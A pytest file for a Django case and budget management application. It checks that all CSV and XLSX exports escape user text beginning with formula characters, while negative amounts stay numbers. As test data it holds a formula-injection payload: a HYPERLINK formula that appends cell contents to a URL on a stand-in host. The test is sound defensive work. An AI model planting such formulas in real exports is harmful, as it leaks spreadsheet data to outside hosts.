"""No export carries a formula (issue 13, item 3): a text typed by a person that starts with "=",
"+", "-", "@", a tab or a carriage return comes out of every CSV and XLSX export of the application
escaped (an apostrophe in front), the XLSX cell is a string cell, and numbers – negative amounts
included – stay numbers.

Every export URL has an entry in EXPORTS; `test_every_export_of_the_application_is_covered` fails
when a view writes an export (an audit name "….exported") that has none."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Person
from juwe.controlling.formatting import csv_number
from juwe.lib.export import FORMULA_PREFIXES, neutralize, to_csv, to_xlsx
from juwe.models import AuditEvent, TeamPosts
from tests.budgets.factories import CostEntryFactory, make_budget
from tests.budgets.factories import make_case as make_budget_case
from tests.cases.factories import make_case
from tests.microprojects.factories import make_project
from tests.networks.factories import MemberOrganisationFactory, OfferFactory

ROOT = Path(__file__).resolve().parents[2]
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
# Each prefix in front of a formula that would call out if a spreadsheet ran it.
FORMULA = 'HYPERLINK("http://example.invalid/?"&A1;"Klick")'
NUMBER = re.compile(r"-?\d+(,\d+)?")  # a number in the CSV ("-1,25"), not a text
# The staffing page's reference day (tests/controlling/test_staffing.py): posts of 2025.
STAFFING_DAY = dt.datetime(2026, 6, 15, 10, tzinfo=dt.timezone.utc)


# --- One entry per export URL: who exports, where, and a user text field holding the payload -------


def _cases(org, users, payload):
    case = make_case(users.case_manager, org.walle, parent=None)
    # Stored as is (the intake form strips blanks, an import or the admin need not).
    Person.objects.filter(memberships__case=case).update(first_name=payload)
    return users.case_manager, reverse("cases:list"), "format"


def _offers(org, users, payload):
    OfferFactory(organisation=MemberOrganisationFactory(district=org.walle), district=org.walle, title=payload)
    return users.case_manager, reverse("networks:offer_search"), "format"


def _coverage(org, users, payload):
    org.walle.name = payload  # a district's name, entered in the admin
    org.walle.save()
    return users.coordinator, reverse("networks:coverage"), "format"


def _cost_entries(org, users, payload):
    budget = make_budget(users.leadership, org.walle)
    CostEntryFactory(budget=budget, note=payload)
    return users.economic_aid, reverse("budgets:cost_entry_list"), "export"


def _cost_entry_exceptions(org, users, payload):
    budget = make_budget(users.leadership, org.walle)
    case = make_budget_case(org.walle, org.team_a, users.case_manager)
    CostEntryFactory(budget=budget, case=case, exception_reason=payload, created_by=users.economic_aid)
    return users.economic_aid, reverse("budgets:cost_entry_exceptions"), "export"


def _microprojects(org, users, payload):
    make_project(title=payload, districts=[org.walle], provider=org.provider_a, created_by=users.case_manager)
    return users.coordinator, reverse("microprojects:list"), "format"


def _staffing(org, users, payload):
    org.team_a.name = payload
    org.team_a.save()
    TeamPosts.objects.create(team=org.team_a, year=2025, case_manager_posts=Decimal("2.50"))
    return users.leadership, reverse("controlling:staffing_export", args=["FMT"]) + "?jahr=2025", None


def _controlling_table(org, users, payload):
    org.team_a.name = payload
    org.team_a.save()
    TeamPosts.objects.create(team=org.team_a, year=2025, case_manager_posts=Decimal("2.50"))
    url = reverse("controlling:table_export", args=["personalbemessung", "FMT"]) + "?ebene=amt&jahr=2025"
    return users.leadership, url, None


# audit name -> the test data of that export
EXPORTS = {
    "cases.case.exported": _cases,
    "networks.offers.exported": _offers,
    "networks.coverage.exported": _coverage,
    "budgets.cost_entry.exported": _cost_entries,
    "budgets.cost_entry_exceptions.exported": _cost_entry_exceptions,
    "microprojects.project.exported": _microprojects,
    "controlling.staffing.exported": _staffing,
    "controlling.table.exported": _controlling_table,
}
# Exports without any text a person typed: the machine-readable key figures are fixed keys and
# numbers (tested below: a text value would be escaped, numbers stay numbers).
WITHOUT_USER_TEXT = {"controlling.key_figures.exported"}


def _export(client, url: str, param: str | None, fmt: str):
    if param is None:
        return client.get(url.replace("FMT", fmt))
    return client.get(url, {param: fmt})


def _cells(response, fmt: str) -> list:
    """Every cell of the file: strings of the CSV, openpyxl cells of the XLSX."""
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        return [value for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for value in row]
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def staffing_day():
    with time_machine.travel(STAFFING_DAY, tick=False):
        yield


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("prefix", PREFIXES, ids=["equals", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_user_text_starting_a_formula_is_exported_as_text(export, prefix, fmt, org, users, client, staffing_day):
    payload = prefix + FORMULA
    user, url, param = EXPORTS[export](org, users, payload)
    client.force_login(user)
    response = _export(client, url, param, fmt)
    assert response.status_code == 200, response.content[:500]
    assert AuditEvent.objects.filter(name=export).exists()  # the URL tested is the export named
    cells = _cells(response, fmt)
    if fmt == "xlsx":
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
        # XML reads a stored carriage return back as a line feed; the text is otherwise as typed.
        cells, payload = [c.value for c in cells if isinstance(c.value, str)], payload.replace("\r", "\n")
    assert not [text for text in cells if text.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(text)]
    # Shown as typed, with the escape in front (the case list's "Persons" cell goes on with the surname).
    assert [text for text in cells if text.startswith("'" + payload)]


def test_every_export_of_the_application_is_covered():
    """A new export (a view that writes an "….exported" audit event) needs its entry in EXPORTS."""
    names = set()
    for app in ("juwe", "cases", "networks", "microprojects", "budgets"):
        for path in (ROOT / app).rglob("*.py"):
            names |= set(re.findall(r"""["']([a-z_]+\.[a-z_.]+\.exported)["']""", path.read_text()))
    assert names, "no export found: has the audit naming changed?"
    assert names == set(EXPORTS) | WITHOUT_USER_TEXT


def test_only_the_export_module_writes_spreadsheets():
    """CSV and XLSX are written in juwe/lib/export.py (which escapes); the key-figure CSV writes
    its own two columns through the same `neutralize`."""
    allowed = {"juwe/lib/export.py", "juwe/controlling/views.py"}
    writers = set()
    for app in ("juwe", "cases", "networks", "microprojects", "budgets"):
        for path in (ROOT / app).rglob("*.py"):
            if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(", path.read_text()):
                writers.add(str(path.relative_to(ROOT)))
    assert writers <= allowed


def test_negative_amounts_and_numbers_stay_numbers(org, users, client, staffing_day):
    """The split of the recorded posts (4.00 by 3500 : 1500) leaves team B 0.30 below its posts:
    the difference is "-0,30" in the CSV and the number -0.3 in the XLSX, not a text."""
    TeamPosts.objects.create(team=org.team_a, year=2025, case_manager_posts=Decimal("2.50"))
    TeamPosts.objects.create(team=org.team_b, year=2025, case_manager_posts=Decimal("1.50"))
    from tests.factories import DistrictIndicatorFactory

    DistrictIndicatorFactory(district=org.walle, year=2025, youth_population=1000, precarity_index="0.500")
    DistrictIndicatorFactory(district=org.westend, year=2025, youth_population=2000, precarity_index="-0.200")
    DistrictIndicatorFactory(district=org.vahr, year=2025, youth_population=1200, precarity_index="0.100")
    client.force_login(users.leadership)
    rows = client.get(reverse("controlling:staffing_export", args=["csv"]), {"jahr": "2025"}).content.decode("utf-8-sig")
    vahr = next(line for line in rows.splitlines() if line.startswith(org.team_b.name))
    assert vahr.endswith(";-0,30")
    sheet = load_workbook(io.BytesIO(
        client.get(reverse("controlling:staffing_export", args=["xlsx"]), {"jahr": "2025"}).content
    )).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == org.team_b.name)
    assert row[-1].value == pytest.approx(-0.3) and row[-1].data_type == "n"


def test_a_reversal_exports_its_negative_amount_as_a_number(org, users, client):
    from budgets import services

    budget = make_budget(users.leadership, org.walle)
    entry = CostEntryFactory(budget=budget, amount=Decimal("1234.56"), note="-Korrektur folgt")
    services.cost_entry_reverse(user=users.economic_aid, entry=entry, booking_date=dt.date(2026, 4, 1))
    client.force_login(users.economic_aid)
    text = client.get(reverse("budgets:cost_entry_list"), {"export": "csv"}).content.decode("utf-8-sig")
    assert ";-1234,56;" in text and ";'-1234,56;" not in text
    assert ";'-Korrektur folgt;" in text  # a text starting with "-" is still text
    sheet = load_workbook(io.BytesIO(client.get(reverse("budgets:cost_entry_list"), {"export": "xlsx"}).content)).active
    amounts = sorted(r[7].value for r in sheet.iter_rows(min_row=2))
    assert amounts == [pytest.approx(-1234.56), pytest.approx(1234.56)]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_the_shared_rule_escapes_text_and_leaves_numbers_and_dates(prefix):
    rows = [[prefix + "1+1", Decimal("-12.50"), -3, dt.date(2026, 1, 2), "Petersen", "#N/A", "a\x01b"]]
    text = to_csv(["=Kopf", "Betrag", "Anzahl", "Datum", "Name", "Fehler", "Steuerzeichen"], rows).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert header[0] == "'=Kopf"
    assert row[:5] == ["'" + prefix + "1+1", "-12,50", "-3", "02.01.2026", "Petersen"]
    sheet = load_workbook(io.BytesIO(to_xlsx(["=Kopf", "Betrag", "Anzahl", "Datum", "Name", "Fehler", "Steuerzeichen"], rows))).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert sheet["A1"].value == "'=Kopf" and sheet["A1"].data_type == "s"
    assert cells[0].data_type == "s" and cells[0].value.startswith("'" + prefix.replace("\r", "\n"))
    assert cells[1].value == pytest.approx(-12.5) and cells[1].data_type == "n"
    assert cells[2].value == -3 and cells[3].value == dt.datetime(2026, 1, 2)
    assert cells[5].value == "#N/A" and cells[5].data_type == "s"  # a text, not an error value
    assert cells[6].value == "ab"  # XML cannot hold control characters: dropped, not a server error


def test_key_figures_write_numbers_as_numbers_and_texts_escaped():
    assert csv_number(Decimal("-2.5")) == "-2.5" and csv_number(-3) == "-3"
    assert csv_number("< 5") == "< 5" and csv_number("=1+1") == "'=1+1"
    assert neutralize("-Korrektur") == "'-Korrektur" and neutralize("Walle") == "Walle"

